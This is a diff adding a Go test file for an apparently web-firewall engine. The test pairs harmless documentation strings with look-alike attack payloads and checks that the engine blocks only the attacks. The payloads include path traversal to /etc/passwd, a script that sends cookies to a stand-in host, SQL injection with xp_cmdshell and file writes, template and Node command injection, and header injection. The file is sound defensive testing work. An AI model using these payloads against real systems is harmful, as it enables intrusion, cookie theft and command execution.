@@ -1,0 +1,63 @@
+package engine
+
+import (
+	"net/url"
+	"strconv"
+	"testing"
+
+	"github.com/gabionhq/gabion/engine/rule"
+)
+
+// twins are values of software and documentation, each beside an attack that
+// looks like it.
+var twins = []struct{ ordinary, attack string }{
+	{"$lowercase(DBClusterIdentifier)", "$f('id');$lowercase($f)"},
+	{"Enrega\u0135o: %s [ELEKTO]...\nPremu \u201e%s\u201c...\n", "..%e2%88%95..%e2%88%95..%e2%88%95etc/passwd"},
+	{"`import` of a package that was never added can fail", "'-import('//a.example/x.js')-'"},
+	{"Both `breakOn` and `eval` options were set in the [`REPL`][] config,", "';eval`alert\\x281\\x29`//"},
+	{"> **Note**: statements can overlap if `undici` or `fetch` is on.", "*/fetch('//a.example/?'+document.cookie)/*"},
+	{"npm exec (npx) programmatic API", "exec('npx')"},
+	{"fopen (temporary file)", "fopen('/etc/passwd','r')"},
+	{"runs-on: ${{ matrix.os }}", "{{ x.os.popen('id').read() }}"},
+	{"L'ID \u00ab%2$s\u00bb dell'elemento <%1$s> n'est pas <%s id='%s'>", "<%= system('id') %>"},
+	{"(?:@(sha256:[0-9a-f]{64}))", "@(7*7)"},
+	{"whereas `fs.writeFile()` retries until", "1 union select writefile('/var/www/x.php','x')"},
+	{"content, err := os.ReadFile(name), benchmark (Ann Smith)", "1 and benchmark(5000000,md5(1))"},
+	{"for (i = 0; i < len(x) && i < len(y); i++)", "1 && length(user())>0"},
+	{"archive/refs/heads/master.tar.gz", "1;exec master..xp_cmdshell 'dir'"},
+	{">=16 || 14 >=14.17", "16 || 14>=14"},
+	{"bir kelimeden \u00e7ok '!'", "a'='"},
+	{"ApiProxy::makeSyncCall(self::PACKAGE_NAME, $x);", "'] | //user[self::node()]"},
+	{"\nParser: \"%s\" of the second form", "\r\nSet-Cookie: a=b"},
+	{"`${process.stdout.columns}x${process.stdout.rows}`", "${process.mainModule.require('child_process').execSync('id')}"},
+}
+
+// TestTwins sends both as parameters, in forms and in JSON.
+func TestTwins(t *testing.T) {
+	e := New(Options{})
+	send := func(v string) (places []string, requests []request) {
+		form := "application/x-www-form-urlencoded"
+		return []string{"query", "form", "json"}, []request{
+			{method: "GET", target: "/search?page=1&q=" + url.QueryEscape(v)},
+			{"POST", "/notes", []string{"Content-Type", form}, "id=7&text=" + url.QueryEscape(v)},
+			post("application/json", `{"id":7,"text":`+strconv.Quote(v)+`}`),
+		}
+	}
+	check := func(v string, want Decision) {
+		places, requests := send(v)
+		for i := range requests {
+			verdict, rep := inspect(e, nil, Env{Mode: rule.Block}, &requests[i], whole)
+			if verdict.Decision == want {
+				continue
+			}
+			t.Errorf("%q in %s: %.2f", v, places[i], verdict.Score)
+			for _, f := range rep.Findings {
+				t.Logf("  %s %.2f at %s: %s", f.Class, f.Weight, f.Point, f.Reason)
+			}
+		}
+	}
+	for _, c := range twins {
+		check(c.ordinary, Pass)
+		check(c.attack, Block)
+	}
+}
